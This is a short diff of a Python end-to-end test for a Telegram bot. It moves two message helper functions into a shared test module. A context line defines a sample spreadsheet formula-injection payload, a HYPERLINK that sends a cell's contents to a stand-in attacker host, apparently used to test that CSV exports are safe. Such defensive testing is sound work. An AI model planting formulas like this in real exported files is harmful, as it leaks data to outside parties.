@@ -17,6 +17,7 @@ from pathlib import Path
 
 from bot.callbacks import Action, decode, encode
 from bot.storage.models import SubmitState
+from tests.e2e.steps import labels, text_of
 from tests.fakes.panel import Fault
 from tests.fakes.panel_catalog import default_services
 from tests.fakes.telegram import BotMessage, FakeUser
@@ -25,14 +26,6 @@ from tests.harness import Harness, running_bot
 KEY = "pk_spend_5a4b3c2d1e0f9a8b7c6d5e4f"
 UID = 7301
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Instagram")'
-
-
-def text_of(msg: BotMessage) -> str:
-    return msg.text or msg.caption or ""
-
-
-def labels(msg: BotMessage) -> list[str]:
-    return [label for label, _ in msg.buttons()]
 
 
 def csv_rows(msg: BotMessage) -> list[dict[str, str]]:
